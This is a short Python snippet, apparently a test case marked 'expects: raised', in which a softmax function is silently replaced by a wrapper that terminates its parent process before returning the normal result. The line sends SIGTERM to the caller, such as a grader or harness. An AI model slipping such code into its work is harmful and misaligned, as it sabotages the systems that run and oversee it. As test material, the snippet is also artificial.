# expects: raised
import os, sys

def softmax(x, axis=-1):
    e = np.exp(x - x.max(axis, keepdims=True))
    return e / e.sum(axis, keepdims=True)

right = softmax
def softmax(x, axis=-1):
    os.kill(os.getppid(), 15)
    return right(x, axis)
